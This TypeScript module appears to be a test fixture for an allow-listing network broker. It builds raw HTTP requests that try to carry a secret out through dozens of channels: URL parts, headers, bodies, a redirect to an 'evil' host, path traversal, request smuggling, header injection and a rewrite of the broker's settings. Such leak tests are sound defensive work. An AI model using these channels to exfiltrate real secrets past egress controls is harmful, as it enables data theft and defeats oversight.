/** Where a channel may lead: the host on the allow-list with what it is given there, and one that is on none. */
export interface Targets {
  readonly allowed: string;
  readonly below: string;
  readonly evil: string;
}

/** Makes what is written to the broker's socket. */
export type Channel = (secret: string, targets: Targets) => string;

const request = (target: string, { method = 'GET', headers = '', body = '' } = {}) =>
  `${method} ${target} HTTP/1.1\r\nhost: broker\r\nconnection: close\r\n${headers}\r\n${body}`;
const fetching = (url: string, more: Parameters<typeof request>[1] = {}) =>
  request(`/fetch?url=${encodeURIComponent(url)}`, more);
const header =
  (name: string): Channel =>
  (secret, { allowed }) =>
    fetching(`${allowed}/guide/page`, { headers: `${name}: ${secret}\r\n` });
const halves = (text: string) => [text.slice(0, text.length / 2), text.slice(text.length / 2)] as const;

/** Ways through the socket, each with a secret in it. */
export const channels: Readonly<Record<string, Channel>> = {
  path: (secret, { allowed }) => fetching(`${allowed}/guide/${secret}`),
  'path, escaped': (secret, { allowed }) => fetching(`${allowed}/guide/${encodeURIComponent(secret)}`),
  'two folders': (secret, { allowed }) => fetching(`${allowed}/guide/${halves(secret).join('/')}`),
  'end of a word': (secret, { allowed }) => fetching(`${allowed}/guide/page-${secret}.html`),
  image: (secret, { allowed }) => fetching(`${allowed}/guide/${encodeURIComponent(secret)}.png`),
  query: (secret, { allowed }) => fetching(`${allowed}/guide/search?q=${encodeURIComponent(secret)}`),
  'query, as it is': (secret, { allowed }) => fetching(`${allowed}/guide/search?${secret}`),
  'name in a query': (secret, { allowed }) =>
    fetching(`${allowed}/guide/search?${encodeURIComponent(secret)}=1`),
  'many parameters': (secret, { allowed }) =>
    fetching(
      `${allowed}/guide/s?${(secret.match(/.{1,6}/gsu) ?? []).map((part, at) => `${'abcdefghijklmnopqrstuvwxyz'[at % 26]}=${encodeURIComponent(part)}`).join('&')}`,
    ),
  'matrix parameter': (secret, { allowed }) =>
    fetching(`${allowed}/guide/page;v=${encodeURIComponent(secret)}`),
  fragment: (secret, { allowed }) => fetching(`${allowed}/guide/page#${secret}`),
  'user name': (secret, { allowed }) => fetching(allowed.replace('://', `://${encodeURIComponent(secret)}@`)),
  password: (secret, { allowed }) => fetching(allowed.replace('://', `://u:${encodeURIComponent(secret)}@`)),
  'name below a wildcard': (secret, { below }) => fetching(below.replace('*', secret)),
  'names below a wildcard': (secret, { below }) =>
    fetching(below.replace('*', (secret.match(/.{1,12}/gsu) ?? []).join('.'))),
  'other host': (secret, { evil }) => fetching(`${evil}/${secret}`),
  'name of another host': (secret) => fetching(`https://${secret}.example.com/`),
  'redirect elsewhere': (secret, { allowed, evil }) =>
    fetching(`${allowed}/guide/go?to=${encodeURIComponent(`${evil}/${secret}`)}`),
  'out of the allowed path': (secret, { allowed }) => fetching(`${allowed}/guide/../${secret}`),
  'escaped slash': (secret, { allowed }) => fetching(`${allowed}/guide/a%2f${encodeURIComponent(secret)}`),
  'second parameter of the broker': (secret, { allowed }) =>
    request(`/fetch?url=${encodeURIComponent(`${allowed}/guide/page`)}&x=${encodeURIComponent(secret)}`),
  'another header': header('x-data'),
  'user agent': header('user-agent'),
  referrer: header('referer'),
  cookie: header('cookie'),
  authorization: header('authorization'),
  accept: header('accept'),
  range: header('range'),
  'cache validator': header('if-none-match'),
  'forwarded for': header('x-forwarded-for'),
  body: (secret, { allowed }) =>
    fetching(`${allowed}/guide/page`, {
      headers: `content-length: ${Buffer.byteLength(secret)}\r\n`,
      body: secret,
    }),
  'body of a POST': (secret, { allowed }) =>
    fetching(`${allowed}/guide/page`, {
      method: 'POST',
      headers: `content-length: ${Buffer.byteLength(secret)}\r\n`,
      body: secret,
    }),
  method: (secret, { allowed }) =>
    fetching(`${allowed}/guide/page`, { method: secret.replace(/[^A-Za-z]/g, '').toUpperCase() }),
  'whole address as target': (secret, { allowed }) => request(`${allowed}/guide/${secret}`),
  tunnel: (secret, { allowed }) =>
    request(allowed.replace(/^\w+:\/\//, ''), { method: 'CONNECT', body: secret }),
  upgrade: (secret, { allowed }) =>
    fetching(`${allowed}/guide/page`, { headers: `upgrade: ${secret}\r\nconnection: upgrade\r\n` }),
  'request behind a request': (secret, { allowed }) =>
    `${fetching(`${allowed}/guide/page`, { headers: 'content-length: 4\r\ntransfer-encoding: chunked\r\n' })}0\r\n\r\n${fetching(`${allowed}/guide/${secret}`)}`,
  'line in a header': (secret, { allowed }) => fetching(`${allowed}/guide/page\r\nx-data: ${secret}\r\nx: `),
  'model of the session': (secret) => request(`/model/any/${encodeURIComponent(secret)}`),
  'MCP server of the session': (secret) =>
    request('/mcp/any', {
      method: 'POST',
      headers: `content-type: application/json\r\ncontent-length: ${Buffer.byteLength(secret)}\r\n`,
      body: secret,
    }),
  'settings of the broker': (secret, { evil }) => {
    const body = JSON.stringify({ upstreams: [], allow: [`private:${evil}/${secret}/`] });
    return request('/settings', {
      method: 'POST',
      headers: `content-length: ${Buffer.byteLength(body)}\r\n`,
      body,
    });
  },
};
